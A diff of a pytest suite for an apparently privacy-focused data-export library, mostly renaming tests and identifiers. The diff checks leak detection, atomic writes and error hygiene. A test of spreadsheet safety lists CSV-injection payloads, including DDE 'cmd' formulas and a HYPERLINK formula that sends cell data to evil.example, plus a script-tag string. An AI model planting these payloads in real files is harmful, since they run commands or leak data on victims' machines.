@@ -37,7 +37,7 @@ from invitekit.errors import (
     SourceError,
 )
 from invitekit.export import (
-    GATES,
+    CHECKS,
     counts,
     frequent_values,
     new_key,
@@ -51,15 +51,15 @@ from invitekit.export import (
     writers,
 )
 from invitekit.export import source as reading
+from invitekit.export.customer_numbers import with_customer_numbers
 from invitekit.export.manifest import path_of
 from invitekit.export.source import open_source
-from invitekit.export.whose import with_who
 from invitekit.export.writers import SINKS
 from invitekit.io import atomic_write
 from invitekit.io.digest import digest
 from invitekit.io.spreadsheet_escape import FORMULA_STARTS
 from invitekit.model import schema
-from invitekit.privacy import ACTIONS, LEVELS, FirstOf, Key, Level, Range, Row, Words, standard
+from invitekit.privacy import ACTIONS, LEVELS, FirstOf, Key, Level, Range, Rule, Words, standard
 from invitekit.privacy.actions import DERIVED, GENERAL
 from invitekit.privacy.policy import TABLE
 from invitekit.privacy.policy_file import HOWS
@@ -71,7 +71,7 @@ KINDS = ("parquet", "csv", "xlsx")
 
 
 def people(rows: int = 200, columns: dict | None = None) -> pl.DataFrame:
-    """Records of made-up customers that use every column, so that no action is without work."""
+    """Records of made-up customers with values in every column."""
     made = {
         "Customer Full Name": [f"Canary Company {n} GmbH" for n in range(rows)],
         "Customer Name": [f"Ann Canary{n}" for n in range(rows)],
@@ -96,7 +96,7 @@ def people(rows: int = 200, columns: dict | None = None) -> pl.DataFrame:
 
 FEW = ("record_id", "account_name", "email", "account_manager", "country", "status", "invited_at", "days_to_associate",
        "effective_status", "failure_code")  # fmt: skip
-"""Columns for tests that need not export all of them, which takes three times as long."""
+"""Columns for tests that do not need all of them; exporting all takes three times as long."""
 
 
 def annotated(frame: pl.DataFrame | None = None) -> pl.DataFrame:
@@ -120,7 +120,7 @@ def left(folder: Path) -> list[str]:
 
 @pytest.mark.parametrize("level", ["masked", "pseudonymised", "aggregated"])
 @pytest.mark.parametrize("kind", KINDS)
-def test_an_export_holds_its_rows_and_nobody(tmp_path: Path, kind: str, level: Level) -> None:
+def test_an_export_has_all_rows_and_no_personal_data(tmp_path: Path, kind: str, level: Level) -> None:
     done = ik.export(every_column(), tmp_path / f"out.{kind}", level=level)
     assert left(tmp_path) == [f"out.{kind}", f"out.{kind}.manifest.json"]
     found = read(done.path)
@@ -132,12 +132,12 @@ def test_an_export_holds_its_rows_and_nobody(tmp_path: Path, kind: str, level: L
     assert verify(done.path).sha256 == done.sha256 == digest(done.path)
 
 
-def test_the_manifest_says_what_was_done_and_passed_and_nothing_of_the_machine(tmp_path: Path) -> None:
+def test_the_manifest_has_actions_and_checks_and_nothing_of_the_machine(tmp_path: Path) -> None:
     done = ik.export(every_column(), tmp_path / "out.parquet", key=KEY, purpose="spring-report")
     told = json.loads(done.manifest.read_text())
     assert (told["level"], told["rows"], told["key_id"]) == ("pseudonymised", 200, KEY.id)
     assert told["purpose"] == "spring-report"
-    assert set(told["gates"]) == set(GATES) - {"formulas", "cells"}
+    assert set(told["checks"]) == set(CHECKS) - {"formulas", "cells"}
     kind = {"from": "email", "action": "pseudonymise", "how": "", "form": "token", "prefix": "e"}
     assert told["columns"]["email"] == kind
     assert told["nulls"]["days_to_associate"] == 100
@@ -159,14 +159,14 @@ def test_records_of_every_engine_are_exported(tmp_path: Path) -> None:
     assert found["polars"].height == 200
 
 
-def test_no_records_are_an_export_too(tmp_path: Path) -> None:
+def test_an_export_may_have_no_records(tmp_path: Path) -> None:
     for kind in KINDS:
         done = ik.export(annotated().head(0), tmp_path / f"out.{kind}")
         assert done.rows == 0
         assert verify(done.path).rows == 0
 
 
-def test_a_planned_record_is_exported_with_its_decision_and_without_its_reasons_words(tmp_path: Path) -> None:
+def test_a_planned_record_is_exported_with_its_decision_and_without_its_reason_text(tmp_path: Path) -> None:
     plan = ik.plan_resends(ik.latest(every_column()), as_of=AS_OF)
     found = read(ik.export(plan, tmp_path / "out.parquet").path)
     assert set(found["decision"]) <= {value.code for value in schema.BY_NAME["decision"].values}
@@ -175,7 +175,7 @@ def test_a_planned_record_is_exported_with_its_decision_and_without_its_reasons_
     assert not {"reason", "next_step", "rank", "chance_from", "invitation_id", "last_seen_at"} & set(found.columns)
 
 
-def test_a_record_that_was_never_annotated_leaves_with_its_failures_code(tmp_path: Path) -> None:
+def test_a_record_without_annotation_is_exported_with_its_failure_code(tmp_path: Path) -> None:
     found = read(ik.export(ik.load(people()).records, tmp_path / "out.parquet").path)
     assert "failure_message" not in found.columns
     assert set(found["failure_code"]) == {None, "other"}
@@ -192,25 +192,25 @@ def test_an_extra_column_stops_the_export_until_a_policy_names_it(tmp_path: Path
     assert verify(tmp_path / "out.parquet").columns["deal"].least == 0
 
 
-# -- the proof of the proof ------------------------------------------------------------------------
+# -- the checks find what breaks a rule ------------------------------------------------------------------------
 
-TRIED: list[tuple[Level, Row]] = [
+TRIED: list[tuple[Level, Rule]] = [
     (level, row) for level in LEVELS for row in standard(level).rows if row.action != "drop"
 ]
-"""Every row of the table that lets something leave: a new one is tried without anybody's doing."""
+"""Every built-in rule that releases something: a new one is tried automatically."""
 
 
-def alike(level: Level, row: Row) -> tuple[object, ...]:
-    """Say what rows have in common that are written and proved in the same way."""
+def same_rule(level: Level, row: Rule) -> tuple[object, ...]:
+    """Return the key of rules that are written and checked in the same way."""
     return level, row.action, row.how, type(row.form), getattr(row.form, "whole", None)
 
 
-FIRST = {alike(level, row): (level, row) for level, row in reversed(TRIED)}
+FIRST = {same_rule(level, row): (level, row) for level, row in reversed(TRIED)}
 WORK = [
     pytest.param(level, row, kind, id=f"{level}-{row.into}-{row.words.replace(' ', '-')}-{kind}")
     for level, row in TRIED
     for kind in KINDS
-    if kind == "parquet" or FIRST[alike(level, row)] == (level, row)
+    if kind == "parquet" or FIRST[same_rule(level, row)] == (level, row)
 ]
 EXTRA = [(action, how) for action, hows in HOWS.items() if action != "drop" for how in hows or ("",)]
 """Every action that a policy file may name, for a column of the user's own."""
@@ -218,15 +218,15 @@ EXTRA = [(action, how) for action, hows in HOWS.items() if action != "drop" for 
 
 @cache
 def planned() -> pl.DataFrame:
-    """Records with a value in every column that the table names, those too that the people here lack."""
+    """Records with a value in every column of the policy."""
     frame = every_column()
     empty = [column.name for column in schema.RECORD if column.kind == "text" and frame[column.name].is_null().all()]
     filled = [pl.format(f"{name}{{}}", pl.col("account_name").hash()).alias(name) for name in empty]
     return ik.plan_resends(ik.resolve(frame.with_columns(filled)), as_of=AS_OF)
 
 
-def with_work(frame: pl.DataFrame, level: Level, row: Row) -> pl.DataFrame:
-    """Put something into a row's column that may not leave as it is; in counts, of all records the same."""
+def with_work(frame: pl.DataFrame, level: Level, row: Rule) -> pl.DataFrame:
+    """Fill the column of a rule with a value that must not be exported; for counts, the same in all records."""
     if row.how == "code":  # which is derived where nobody annotated
         frame = frame.drop("failure_code")
     kept = isinstance(row.form, Words) and row.action == "keep"
@@ -241,7 +241,7 @@ def with_work(frame: pl.DataFrame, level: Level, row: Row) -> pl.DataFrame:
 
 
 def mutated(column: str) -> Callable[..., pl.DataFrame]:
-    """A release in which one column's action is identity."""
+    """Return a ``release`` that does not change one column."""
     true = transform.release
 
     def leak(batch: pl.DataFrame, rows: Any, secrets: Any) -> pl.DataFrame:
@@ -252,7 +252,7 @@ def mutated(column: str) -> Callable[..., pl.DataFrame]:
     return leak
 
 
-def test_no_action_and_no_column_is_left_untried() -> None:
+def test_every_action_and_every_column_is_tried() -> None:
     assert len(TRIED) == sum(words != "drop" for _, *levels in TABLE for words in levels)
     ways: dict[str, set[str]] = {action: set() for action in ACTIONS}
     for _, row in TRIED:
@@ -265,8 +265,8 @@ def test_no_action_and_no_column_is_left_untried() -> None:
 
 
 @pytest.mark.parametrize(("level", "row", "kind"), WORK)
-def test_an_action_that_does_nothing_is_found_out(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, level: Level, row: Row, kind: str
+def test_an_action_that_does_nothing_is_detected(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, level: Level, row: Rule, kind: str
 ) -> None:
     frame = with_work(planned(), level, row)
     if level != "aggregated":
@@ -281,7 +281,7 @@ def test_an_action_that_does_nothing_is_found_out(
 
 
 @pytest.mark.parametrize(("action", "how"), [*EXTRA, ("keep", "range")])
-def test_an_action_of_a_policy_file_that_does_nothing_is_found_out(
+def test_an_action_of_a_policy_file_that_does_nothing_is_detected(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, action: str, how: str
 ) -> None:
     cells: dict[str, list[Any]] = {
@@ -304,17 +304,17 @@ def test_an_action_of_a_policy_file_that_does_nothing_is_found_out(
     assert left(tmp_path) == before
 
 
-def test_a_column_that_had_to_be_dropped_is_found_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_column_that_should_be_dropped_is_detected(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     true = transform.release
     monkeypatch.setattr(pipeline, "release", lambda b, r, s: true(b, r, s).with_columns(raw=b["email"]))
     with pytest.raises(LeakError) as refused:
         ik.export(annotated(), tmp_path / "out.csv")
-    assert (refused.value.column, refused.value.gate) == ("file", "columns")
+    assert (refused.value.column, refused.value.check) == ("file", "columns")
     assert left(tmp_path) == []
 
 
 MANY = 1_000_000 if SOAK else 2_500
-"""More rows than one small frame has: outside of a soak run, such frames have a thousand."""
+"""More rows than a small frame has; outside of a soak run, such frames have a thousand rows."""
 
 
 @pytest.fixture(scope="module")
@@ -340,7 +340,7 @@ SLIPS = {
 
 @pytest.mark.slow
 @pytest.mark.parametrize("column", SLIPS)
-def test_one_raw_value_in_one_row_of_many_is_found_out(
+def test_one_raw_value_in_one_of_many_rows_is_detected(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, many: duckdb.DuckDBPyRelation, column: str
 ) -> None:
     for module in () if SOAK else (reading, shuffle):
@@ -361,26 +361,24 @@ def test_one_raw_value_in_one_row_of_many_is_found_out(
     monkeypatch.setattr(pipeline, "release", leak)
     with pytest.raises(LeakError) as refused:
         ik.export(many, tmp_path / "out.parquet")
-    assert (refused.value.column, refused.value.gate, refused.value.count) == (column, "declared", 1)
+    assert (refused.value.column, refused.value.check, refused.value.count) == (column, "declared", 1)
     assert len(slipped) > 2
     assert left(tmp_path) == []
 
 
-def test_a_raw_value_that_looks_like_a_token_is_found_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_raw_value_that_looks_like_a_token_is_detected(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     once = read(ik.export(annotated(), tmp_path / "once.parquet").path)
     frame = annotated().with_columns(once["account_name"])
     ik.export(frame, tmp_path / "twice.parquet")
     monkeypatch.setattr(pipeline, "release", mutated("account_name"))
     with pytest.raises(LeakError) as refused:
         ik.export(frame, tmp_path / "thrice.parquet")
-    assert (refused.value.column, refused.value.gate) == ("account_name", "values")
+    assert (refused.value.column, refused.value.check) == ("account_name", "values")
     assert refused.value.count == 200
 
 
 @pytest.mark.parametrize("spoilt", ["rows", "nulls"])
-def test_a_row_or_a_cell_that_is_lost_is_found_out(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, spoilt: str
-) -> None:
+def test_a_lost_row_or_cell_is_detected(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, spoilt: str) -> None:
     true = writers.SINKS[".parquet"]
 
     def lose(frames: Iterator[pl.DataFrame], part: Path, *, safe: bool) -> None:
@@ -390,11 +388,11 @@ def test_a_row_or_a_cell_that_is_lost_is_found_out(
     monkeypatch.setitem(writers.SINKS, ".parquet", lose)
     with pytest.raises(LeakError) as refused:
         ik.export(annotated(), tmp_path / "out.parquet")
-    assert refused.value.gate == spoilt
+    assert refused.value.check == spoilt
     assert left(tmp_path) == []
 
 
-def test_a_footer_that_says_more_than_it_should_is_found_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_extra_metadata_in_the_footer_is_detected(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     def chatty(frames: Iterator[pl.DataFrame], part: Path, *, safe: bool) -> None:
         del safe
         table = pl.concat(frames).to_arrow()
@@ -403,21 +401,21 @@ def test_a_footer_that_says_more_than_it_should_is_found_out(tmp_path: Path, mon
     monkeypatch.setitem(writers.SINKS, ".parquet", chatty)
     with pytest.raises(LeakError) as refused:
         ik.export(annotated(), tmp_path / "out.parquet")
-    assert refused.value.gate == "metadata"
+    assert refused.value.check == "metadata"
 
 
 @pytest.mark.parametrize(("column", "kind"), [("has_remarks", pl.Int8()), ("invited_month", pl.Datetime("us"))])
-def test_a_column_of_another_type_is_found_out(
+def test_a_column_of_another_type_is_detected(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, column: str, kind: pl.DataType
 ) -> None:
     true = transform.release
     monkeypatch.setattr(pipeline, "release", lambda b, r, s: true(b, r, s).with_columns(pl.col(column).cast(kind)))
     with pytest.raises(LeakError) as refused:
         ik.export(every_column(), tmp_path / "out.parquet")
-    assert (refused.value.column, refused.value.gate) == (column, "types")
+    assert (refused.value.column, refused.value.check) == (column, "types")
 
 
-def test_a_file_that_no_engine_reads_is_no_export(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_an_unreadable_file_is_not_exported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     def broken(frames: Iterator[pl.DataFrame], part: Path, *, safe: bool) -> None:
         del safe
         part.write_bytes(b"PAR1" + str(list(frames)).encode() + b"PAR1")
@@ -429,9 +427,9 @@ def test_a_file_that_no_engine_reads_is_no_export(tmp_path: Path, monkeypatch: p
     assert left(tmp_path) == []
 
 
-# -- odd data --------------------------------------------------------------------------------------
+# -- unusual data --------------------------------------------------------------------------------------
 
-# OWASP, CSV injection, and the ways around a filter that were seen.
+# CSV injection, from OWASP, and known ways around filters.
 PAYLOADS = (
     "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
     '=HYPERLINK("http://evil.example?x="&A1,"click")', "=1+1;", '"=1+1"', "'=1+1", " =1+1", "＝1+1", "=1+1\n=2",
@@ -452,7 +450,7 @@ def test_no_cell_of_an_export_runs_in_a_spreadsheet(tmp_path: Path, kind: str, l
     rules = tmp_path / "policy.toml"
     rules.write_text('[[column]]\nname = "=tier"\naction = "keep"\nvalues = ["=1+1", "-2", "gold"]\n')
     frame = frame.with_columns(pl.Series("=tier", (["=1+1", "-2", "gold", None] * rows)[:rows]))
-    # An account of each row's own, so that frequent tags are frequent among customers.
+    # Each row has its own account, so that frequent tags are frequent among customers.
     frame = frame.with_columns(account_name=pl.Series([f"{text}{n}" for n, text in enumerate(texts)]))
     secret = ["customer_full_name", "customer_name", "email", "mobile", "account_manager"]
     frame = frame.with_columns(pl.lit("x").alias(name) for name in secret)
@@ -472,7 +470,7 @@ ODD = ("A", "李", "<script>alert(1)</script>", "\u202eevil\u202c", "عميل", 
        "***x", "0")  # fmt: skip
 
 
-def test_a_customer_may_be_called_anything(tmp_path: Path) -> None:
+def test_a_customer_may_have_any_name(tmp_path: Path) -> None:
     each = 20  # records with an odd tag, and more than enough customers of it without an odd name
     frame = annotated(people(each * len(ODD)))
     odd = pl.Series([name for name in ODD for _ in range(each)])
@@ -487,7 +485,7 @@ def test_a_customer_may_be_called_anything(tmp_path: Path) -> None:
     assert cells & set(ODD) == {"email", "associated", "other"}, "words of fixed lists"
 
 
-def test_columns_of_few_values_do_not_carry_those_of_other_records(tmp_path: Path) -> None:
+def test_categorical_columns_do_not_contain_values_of_other_records(tmp_path: Path) -> None:
     frame = every_column()
     for name in ("status", "custom_tag", "country", "account_manager", "customer_name"):
         values = [*frame[name].drop_nulls().unique(), "canary-not-exported"]
@@ -501,7 +499,7 @@ def test_columns_of_few_values_do_not_carry_those_of_other_records(tmp_path: Pat
         assert pq.read_metadata(done.path).metadata is None
 
 
-def test_zoned_times_leave_as_the_months_of_utc(tmp_path: Path) -> None:
+def test_times_with_a_zone_are_exported_as_months_in_utc(tmp_path: Path) -> None:
     at = dt.datetime(2026, 2, 28, 23, 30, tzinfo=dt.timezone(dt.timedelta(hours=-5)))
     frame = annotated().with_columns(invited_at=pl.lit(at).dt.convert_time_zone("Asia/Shanghai"))
     for taken in (frame, duckdb.from_arrow(frame.to_arrow())):
@@ -513,18 +511,18 @@ def test_zoned_times_leave_as_the_months_of_utc(tmp_path: Path) -> None:
 
 
 def cells(sizes: dict[str, int]) -> pl.DataFrame:
-    """Records of so many customers by status, two a customer."""
+    """Return two records for each customer, with numbers of customers by status."""
     rows = [(f"c{status}{n // 2}", status) for status, size in sizes.items() for n in range(2 * size)]
     return pl.DataFrame(rows, schema=["account_name", "effective_status"], orient="row")
 
 
-def test_cells_of_few_customers_are_left_out_however_many_records_they_hold(tmp_path: Path) -> None:
+def test_cells_of_few_customers_are_left_out_even_with_many_records(tmp_path: Path) -> None:
     frame = cells({"associated": 30, "expired": 10, "invited": 9, "pre_registered": 9})
     found = read(ik.export(frame, tmp_path / "out.parquet", level="aggregated").path)
     assert {row[0]: row[1:] for row in found.rows()} == {"associated": (60, 30), "expired": (20, 10)}
 
 
-def test_counts_of_too_few_are_refused(tmp_path: Path) -> None:
+def test_counts_without_a_large_enough_cell_are_rejected(tmp_path: Path) -> None:
     with pytest.raises(OutputError, match="10 customers"):
         ik.export(cells({"associated": 9, "expired": 9}), tmp_path / "out.csv", level="aggregated")
     with pytest.raises(OutputError, match="have no known customer"):
@@ -566,17 +564,17 @@ def test_our_own_exports_are_read_back(tmp_path: Path, kind: str) -> None:
     assert masked.records["record_id"].n_unique() == 200
 
 
-def test_values_that_came_masked_are_emptied_and_counted(tmp_path: Path) -> None:
+def test_masked_values_become_null_and_are_counted(tmp_path: Path) -> None:
     frame = annotated(people(columns={"Customer Name": ["T***m"] * 200}))
     done = ik.export(frame, tmp_path / "out.parquet")
-    assert done.emptied == {"customer_name": 200}
+    assert done.nulled == {"customer_name": 200}
     assert read(done.path)["customer_name"].null_count() == 200
 
 
-# -- a place to write ------------------------------------------------------------------------------
+# -- targets ------------------------------------------------------------------------------
 
 
-def test_nothing_is_written_over_unless_it_is_said_and_never_a_source(tmp_path: Path) -> None:
+def test_a_file_is_replaced_only_with_overwrite_and_a_source_never(tmp_path: Path) -> None:
     source = tmp_path / "source.csv"
     people().write_csv(source)
     before = source.read_bytes()
@@ -603,7 +601,7 @@ def test_a_refused_export_leaves_the_earlier_one_as_it_was(tmp_path: Path, monke
 
 
 @pytest.mark.parametrize("how", ["cut", "changed", "no manifest", "another manifest", "a forged manifest"])
-def test_a_file_that_is_not_the_proved_one_is_refused(tmp_path: Path, how: str) -> None:
+def test_a_changed_file_is_rejected(tmp_path: Path, how: str) -> None:
     done = ik.export(annotated(), tmp_path / "out.csv")
     text = done.path.read_text("utf-8")
     told = json.loads(done.manifest.read_text())
@@ -625,7 +623,7 @@ def test_a_file_that_is_not_the_proved_one_is_refused(tmp_path: Path, how: str) 
 
 @pytest.mark.parametrize("step", ["file", "manifest"])
 @pytest.mark.parametrize("error", [KeyboardInterrupt, OSError])
-def test_what_stops_before_its_manifest_stands_leaves_the_earlier_export_or_none(
+def test_an_export_that_stops_before_its_manifest_leaves_the_earlier_one_or_none(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, step: str, error: type[BaseException]
 ) -> None:
     target = tmp_path / "out.csv"
@@ -672,7 +670,7 @@ def test_a_folder_that_cannot_be_written_is_refused() -> None:
     frame = annotated()
     with tempfile.TemporaryDirectory() as folder:
         Path(folder).chmod(0o555)
-        # Root writes everywhere: it has to be somebody else for a moment.
+        # Root can write everywhere, so change the user temporarily.
         before, other = os.geteuid(), os.geteuid() or 65534
         os.seteuid(other)
         try:
@@ -683,7 +681,7 @@ def test_a_folder_that_cannot_be_written_is_refused() -> None:
         assert left(Path(folder)) == []
 
 
-def test_a_folder_that_refuses_a_new_file_is_told_in_our_words() -> None:
+def test_a_folder_that_allows_no_new_file_is_a_clear_error() -> None:
     gone = Path("/proc/self/out.csv")  # no file can be made there, not even by root
     with pytest.raises(OutputError, match=r"'out.csv' cannot be written|cannot be written to"):
         ik.export(annotated(), gone)
@@ -701,11 +699,11 @@ for line in sys.stdin:
     print(pid, flush=True)
     print(os.waitpid(pid, 0)[1], flush=True)
 """
-"""Has everything imported and no thread yet: a copy of it is at work at once."""
+"""A process with all imports and without threads, so that its forks start quickly."""
 
 
 def state(target: Path) -> str:
-    """What a killed export left under its name; a file without a manifest is whole all the same."""
+    """Return the files of a killed export; a file without a manifest is also complete."""
     if not target.exists():
         return "none" if not path_of(target).exists() else "torn"
     files = [path.stat() for path in (target, path_of(target)) if path.exists()]
@@ -714,7 +712,7 @@ def state(target: Path) -> str:
 
 @cache
 def _state(target: Path, _files: tuple[tuple[int, int], ...]) -> str:
-    """Look at the same files once: most kills come before anything was put in their place."""
+    """Check the same files once: most kills come before they are replaced."""
     if pl.read_parquet(target).height != KILLED_ROWS:
         return "torn"
     try:
@@ -761,11 +759,11 @@ def test_a_kill_at_any_moment_leaves_a_whole_export_or_none(tmp_path: Path) -> N
     assert state(target) == "whole"
 
 
-# -- what errors and logs say ----------------------------------------------------------------------
+# -- texts of errors and logs ----------------------------------------------------------------------
 
 
 def held(error: BaseException | None) -> str:
-    """Say everything that travels with an error."""
+    """Return all texts of an error and its causes."""
     told = []
     while error:
         told.append(repr(error))
@@ -774,7 +772,7 @@ def held(error: BaseException | None) -> str:
 
 
 def spoilt() -> dict[str, Any]:
-    """Records that cannot be exported, each for another reason, with somebody's data in every cell."""
+    """Records that cannot be exported for several reasons, with personal data in every cell."""
     frame, con = annotated(), duckdb.connect()
     con.execute("set enable_progress_bar = false")
     return {
@@ -800,7 +798,7 @@ def test_an_error_quotes_no_cell_and_no_key_and_leaves_nothing(
     with pytest.raises(InvitekitError) as refused:
         ik.export(spoilt()[how], tmp_path / "out.parquet", key=KEY)
     told = "".join(traceback.format_exception(refused.value)) + caplog.text + "".join(capfd.readouterr())
-    # The traceback shows lines of this test; what is said must not come from a cell.
+    # The traceback shows lines of this test; other texts must not be from a cell.
     said = str(refused.value) + held(refused.value) + caplog.text + told.rpartition("InvitekitError")[2]
     assert how == "no frame" or refused.value.__context__ is None, "no error of an engine travels with ours"
     assert "Hint: " in str(refused.value)
@@ -825,13 +823,13 @@ def test_a_good_export_logs_nothing_of_a_record_nor_of_the_key(
         {"level": "masked", "policy": standard()},
     ],
 )  # fmt: skip
-def test_an_argument_that_means_nothing_is_refused_before_anything_is_written(tmp_path: Path, wrong: dict) -> None:
+def test_an_invalid_argument_is_rejected_before_anything_is_written(tmp_path: Path, wrong: dict) -> None:
     with pytest.raises(ArgumentError, match="Hint: "):
         ik.export(annotated(), tmp_path / "out.parquet", **wrong)
     assert left(tmp_path) == []
 
 
-# -- who is alike ----------------------------------------------------------------------------------
+# -- k-anonymity -----------------------------------------------------------------------------------
 
 
 def test_the_report_says_in_words_how_many_are_unique(tmp_path: Path) -> None:
@@ -839,17 +837,18 @@ def test_the_report_says_in_words_how_many_are_unique(tmp_path: Path) -> None:
         account_manager=pl.Series(["m1"] * 6 + ["m2"] * 3), status=pl.lit("invited")
     )
     done = ik.export(frame.with_columns(status=pl.Series(["invited"] * 8 + ["expired"])), tmp_path / "out.parquet")
-    assert done.alike[0].by == ("invited_month", "account_manager", "status")
-    assert (done.alike[0].records, done.alike[0].unique, done.alike[0].small, done.alike[0].smallest) == (9, 1, 3, 1)
-    assert done.alike[0].sentence().startswith("1 record is unique by month, manager and status (11.1%)")
-    assert "1 条记录是唯一的" in done.alike[0].sentence("zh")
-    assert done.alike[0].sentence() in str(done)
+    result = done.uniqueness[0]
+    assert result.by == ("invited_month", "account_manager", "status")
+    assert (result.records, result.unique, result.small, result.smallest) == (9, 1, 3, 1)
+    assert result.sentence().startswith("1 record is unique by month, manager and status (11.1%)")
+    assert "1 条记录是唯一的" in result.sentence("zh")
+    assert result.sentence() in str(done)
 
 
 # -- the history -----------------------------------------------------------------------------------
 
 
-def test_the_workspace_notes_what_was_exported_and_what_was_not(tmp_path: Path) -> None:
+def test_the_workspace_records_completed_and_failed_exports(tmp_path: Path) -> None:
     with ik.Workspace(tmp_path / "memory.duckdb") as kept:
         done = ik.export(annotated(), tmp_path / "out.csv", workspace=kept, purpose="q1", key=KEY)
         with pytest.raises(SchemaError):
@@ -865,7 +864,7 @@ def test_the_workspace_notes_what_was_exported_and_what_was_not(tmp_path: Path) 
 
 
 @pytest.mark.parametrize("level", ["masked", "pseudonymised"])
-def test_scrubbed_remarks_leave_without_anybodys_name(tmp_path: Path, level: Any) -> None:
+def test_scrubbed_remarks_are_exported_without_names(tmp_path: Path, level: Any) -> None:
     said = {
         "call Ann Canary1 back, about USD 5 000.00": "call [name] back, about USD 5 000.00",
         "write to someone@mail.example": "write to [email]",
@@ -886,7 +885,7 @@ def test_scrubbed_remarks_leave_without_anybodys_name(tmp_path: Path, level: Any
 
 @pytest.fixture
 def alone(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
-    """A machine without a key, a keyring, or settings of its user."""
+    """A machine without a key, a keyring and settings."""
     monkeypatch.delenv("INVITEKIT_KEY", raising=False)
     monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "settings"))
     monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.fail.Keyring")
@@ -900,7 +899,7 @@ def test_without_a_key_each_export_has_its_own(alone: Path) -> None:
     assert left(alone) == []
 
 
-def test_the_environment_holds_a_key(alone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_key_can_be_in_the_environment(alone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("INVITEKIT_KEY", KEY.text())
     assert resolve_key().id == KEY.id
     with pytest.raises(ArgumentError, match="INVITEKIT_KEY"):
@@ -913,7 +912,7 @@ def test_the_environment_holds_a_key(alone: Path, monkeypatch: pytest.MonkeyPatc
 
 
 @pytest.mark.parametrize("named", [True, False])
-def test_a_key_file_is_its_owners_alone_and_is_never_written_over(alone: Path, named: bool) -> None:
+def test_a_key_file_is_private_and_never_replaced(alone: Path, named: bool) -> None:
     file = alone / "key" if named else None
     made, where = new_key(file)
     path = file or alone / "settings" / "invitekit" / "key"
@@ -930,7 +929,7 @@ def test_a_key_file_is_its_owners_alone_and_is_never_written_over(alone: Path, n
         resolve_key(file)
 
 
-def test_a_key_file_that_is_missing_or_holds_something_else_is_refused(alone: Path) -> None:
+def test_a_missing_or_invalid_key_file_is_rejected(alone: Path) -> None:
     with pytest.raises(SourceError, match="no such file"):
         resolve_key(alone / "nowhere")
     (alone / "text").write_text("secret words")
@@ -940,11 +939,11 @@ def test_a_key_file_that_is_missing_or_holds_something_else_is_refused(alone: Pa
     assert "secret words" not in str(refused.value)
 
 
-# -- who is counted --------------------------------------------------------------------------------
+# -- counted customers --------------------------------------------------------------------------------
 
 
 def alone_in(cells: int, columns: dict) -> pl.DataFrame:
-    """Records that differ in nothing but what is handed in."""
+    """Return records that differ only in the given columns."""
     made = {"Account Name": [None] * cells, "Custom Tag": ["a private tag"] * cells, "Status": ["Associated"] * cells}
     return annotated(people(cells, made | {"Invitation Time": [dt.datetime(2026, 3, 2)] * cells} | columns))
 
@@ -971,7 +970,7 @@ def test_counts_of_masked_records_are_refused_and_say_what_to_do(tmp_path: Path)
     assert left(tmp_path) == []
 
 
-# -- what the engines may keep or tell -------------------------------------------------------------
+# -- engines -------------------------------------------------------------
 
 
 def test_records_are_spilled_to_a_private_folder_that_is_removed(
@@ -979,7 +978,7 @@ def test_records_are_spilled_to_a_private_folder_that_is_removed(
 ) -> None:
     monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
     relation = duckdb.from_arrow(annotated().to_arrow())
-    opened = with_who(open_source(relation, None), ["status"])
+    opened = with_customer_numbers(open_source(relation, None), ["status"])
     assert opened.con
     spill, limit = opened.con.execute(
         "select current_setting('temp_directory'), current_setting('memory_limit')"
@@ -994,13 +993,13 @@ def test_records_are_spilled_to_a_private_folder_that_is_removed(
     assert left(tmp_path) == ["target"]
 
 
-def test_no_error_of_an_engine_travels_with_a_refused_proof(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_failed_check_has_no_error_of_an_engine_as_its_cause(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     true = transform.release
     long = pl.lit("y" * 3_000_000).alias("country")  # longer than a line of CSV may be
     monkeypatch.setattr(pipeline, "release", lambda b, r, s: true(b, r, s).with_columns(b["email"], long))
     with pytest.raises(LeakError) as refused:
         ik.export(annotated().head(3), tmp_path / "out.csv")
-    assert refused.value.gate == "readable"
+    assert refused.value.check == "readable"
     assert refused.value.__context__ is None
     assert "canary." not in held(refused.value)
 
@@ -1012,59 +1011,59 @@ TAGS = (
 
 
 def tagged() -> pl.DataFrame:
-    """Records whose frequent tags all tell of somebody, but for one."""
+    """Records with frequent tags that all identify a person, except one."""
     tags = [*TAGS, "spring-sale"]
     return every_column().with_columns(custom_tag=pl.Series([tags[n % len(tags)] for n in range(200)]))
 
 
-def test_a_frequent_tag_that_tells_of_somebody_leaves_as_other(tmp_path: Path) -> None:
+def test_a_frequent_tag_that_identifies_a_person_becomes_other(tmp_path: Path) -> None:
     found = read(ik.export(tagged(), tmp_path / "out.parquet").path)
     assert dict(found["custom_tag"].value_counts().iter_rows()) == {"other": 178, "spring-sale": 22}
 
 
 class Blind(frequent_values.IdentifierScanner):
-    """Chooses the words without seeing anybody in them."""
+    """Finds no identifying word."""
 
-    def told(self) -> frozenset[str]:
+    def identifying_words(self) -> frozenset[str]:
         return frozenset()
 
 
